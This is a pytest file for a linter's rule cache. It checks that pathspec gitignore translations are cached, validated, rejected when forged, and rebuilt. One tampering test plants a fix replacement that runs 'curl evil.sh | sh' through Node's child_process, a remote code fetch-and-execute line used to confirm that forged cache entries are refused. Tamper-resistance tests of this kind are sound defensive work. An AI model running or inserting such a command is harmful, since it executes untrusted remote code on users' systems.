"""Gitignore translations kept in the rule cache: pathspec's, taken only when they are plain,
and a scan that reads only those does not import pathspec."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from test_rule_cache import RULE_FILE, _forge

from secure_lint.core import gitignore_translations as translations
from secure_lint.core import path_classes, validated_cache
from secure_lint.core.path_classes import fixed_patterns, matcher, spec
from secure_lint.rules import cache as rule_cache
from secure_lint.rules.cache import cache_entry
from secure_lint.rules.loader import load_rules

PATHS_RULE = RULE_FILE.replace("    keywords: [eval]\n", "    paths: {{exclude: ['**/legacy/**', '*.gen.ts']}}\n")


@pytest.fixture(autouse=True)
def fresh_translations(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Each test starts with nothing translated nor adopted, and no combined matcher built."""
    monkeypatch.setattr(translations, "_known", {})
    monkeypatch.setattr(translations, "_adopted", set())
    rule_cache.forget_decoded()
    matcher.cache_clear()
    yield
    rule_cache.forget_decoded()
    matcher.cache_clear()


@pytest.fixture
def cache_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "cache"
    monkeypatch.setenv("XDG_CACHE_HOME", str(home))
    return home / "secure-lint"


def _pathspec(pattern: str) -> tuple[str | None, bool | None]:
    regex, include = translations.pattern_class().pattern_to_regex(pattern)
    return regex, include


def _entry_of(path: Path) -> tuple[Path, dict, bytes]:
    entry = cache_entry([path])
    assert entry is not None
    return entry, *rule_cache.cached_document(validated_cache.read(entry) or b"")


def test_the_entry_keeps_pathspecs_translations_of_rule_filters_and_fixed_sets(cache_home: Path) -> None:
    load_rules()
    (entry,) = cache_home.glob("rules-*.json")
    kept = rule_cache.cached_document(validated_cache.read(entry) or b"")[0]["gitignore"]
    assert {"**/legacy/**", "*.gen.ts"}.isdisjoint(kept)  # only what the bundled rules and sets name
    assert set(fixed_patterns()) <= set(kept)
    assert all(kept[pattern] == _pathspec(pattern)[0] for pattern in kept)


def test_a_scan_of_the_fixed_sets_and_cached_rules_does_not_import_pathspec(cache_home: Path) -> None:
    load_rules()  # writes the entry
    script = (
        "import sys\n"
        "from secure_lint.rules.loader import load_rules\n"
        "from secure_lint.core.path_classes import is_default_excluded, is_shipped, is_test_code\n"
        "rules = load_rules()\n"
        "assert is_default_excluded('node_modules/x.js') and not is_shipped('src/app.test.ts')\n"
        "assert is_test_code('__tests__/a.ts') and is_shipped('src/app/page.tsx')\n"
        "print(sorted(m for m in sys.modules if m.split('.')[0] == 'pathspec'))\n"
    )
    env_cache = str(cache_home.parent)
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True, env={"XDG_CACHE_HOME": env_cache}
    )
    assert done.stdout.strip() == "[]"


def test_adopted_translations_decide_as_pathspec_does(cache_home: Path, tmp_path: Path) -> None:
    path = tmp_path / "acme.yaml"
    path.write_text(PATHS_RULE.format(what="request data"))
    expected = load_rules([path], bundled=False)
    translations._known.clear()
    rule_cache.forget_decoded()
    assert load_rules([path], bundled=False) == expected  # from the cache: its translations adopted
    assert {"**/legacy/**", "*.gen.ts"} <= translations._adopted
    patterns = ("**/legacy/**", "*.gen.ts")
    for file in ("src/legacy/a.ts", "a.gen.ts", "src/b.gen.ts", "src/a.ts", "legacy.ts"):
        assert matcher(patterns)(file) == spec(patterns).match_file(file)


@pytest.mark.parametrize(
    "forged",
    [
        {"!src/**": "^src/.*$"},  # a negation: pathspec reads it, in order
        {"src/\\*.ts": "^src/.*$"},  # an escape
        {"src/[z-a].ts": "^src/.*$"},  # a range
        {"*.gen.ts": 42},
        ["*.gen.ts"],
    ],
)
def test_a_forged_translation_that_is_not_plain_is_a_miss(cache_home: Path, tmp_path: Path, forged: object) -> None:
    path = tmp_path / "acme.yaml"
    path.write_text(PATHS_RULE.format(what="request data"))
    expected = load_rules([path], bundled=False)
    entry, cached, body = _entry_of(path)
    cached["gitignore"] = forged
    _forge(entry, rule_cache.cache_payload(cached, body), with_header=True)
    translations._known.clear()
    assert load_rules([path], bundled=False) == expected  # validated again
    assert not translations._adopted
    assert _entry_of(path)[1]["gitignore"] != forged  # rebuilt


def test_an_entry_refused_for_its_rules_leaves_no_translation_behind(cache_home: Path, tmp_path: Path) -> None:
    path = tmp_path / "acme.yaml"
    path.write_text(PATHS_RULE.format(what="request data"))
    expected = load_rules([path], bundled=False)
    entry = cache_entry([path])
    assert entry is not None
    cached, body = rule_cache.cached_document(validated_cache.read(entry) or b"")
    cached["gitignore"]["*.gen.ts"] = "^src/.*$"  # plain, but not what pathspec says
    cached["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
    _forge(entry, rule_cache.cache_payload(cached, body), with_header=True)
    translations._known.clear()
    assert load_rules([path], bundled=False) == expected
    assert translations.translate("*.gen.ts") == _pathspec("*.gen.ts")


def test_a_kept_regex_that_does_not_compile_is_translated_again(cache_home: Path, tmp_path: Path) -> None:
    path = tmp_path / "acme.yaml"
    path.write_text(PATHS_RULE.format(what="request data"))
    load_rules([path], bundled=False)
    entry, cached, body = _entry_of(path)
    cached["gitignore"]["*.gen.ts"] = "(unbalanced"
    _forge(entry, rule_cache.cache_payload(cached, body), with_header=True)
    translations._known.clear()
    load_rules([path], bundled=False)
    assert "*.gen.ts" in translations._adopted
    assert matcher(("*.gen.ts",))("src/a.gen.ts")
    assert not matcher(("*.gen.ts",))("src/a.ts")
    assert not translations._adopted


def test_an_entry_is_named_by_pathspecs_translating_code() -> None:
    files = translations.translator_files()
    assert {"_version.py", "spec.py"} <= {file.name for file in files}
    assert all(file.is_file() for file in files)
    assert set(files) <= set(rule_cache._code_files())


@pytest.mark.parametrize("path", ["src/a.ts", "/src/a.ts", "./src/a.ts", "a", "//a", "./", "."])
def test_paths_are_read_as_pathspec_reads_them(path: str) -> None:
    from pathspec.util import normalize_file

    assert path_classes.normalize_file(path) == normalize_file(path)


def test_a_staged_scan_on_cached_rules_does_not_import_pathspec(tree, tmp_path: Path) -> None:
    """The staged scan of a pre-commit hook: its path checks read the rule cache's translations."""
    root = tree({"src/calc.ts": "export const run = (input: string) => eval(input);\n", "README.md": "# calc\n"})
    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
    subprocess.run(["git", "add", "."], cwd=root, check=True)
    code = (
        "import sys; from secure_lint.cli.app import main\n"
        "try: main(['scan', '-q', '--staged', '--no-cache'] if sys.argv[1] == 'cold' else ['scan', '-q', '--staged'])\n"
        "except SystemExit: pass\n"
        "print(sorted(m for m in sys.modules if m.split('.')[0] == 'pathspec')[:1])"
    )
    env = {"PATH": os.environ["PATH"], "XDG_CACHE_HOME": str(tmp_path / "cache"), "HOME": str(tmp_path)}
    run = {"cwd": root, "env": env, "capture_output": True, "text": True, "check": True}
    assert subprocess.run([sys.executable, "-c", code, "cold"], **run).stdout.strip() == "['pathspec']"
    subprocess.run([sys.executable, "-c", code, "warm"], **run)  # writes the rule cache
    assert subprocess.run([sys.executable, "-c", code, "warm"], **run).stdout.strip() == "[]"
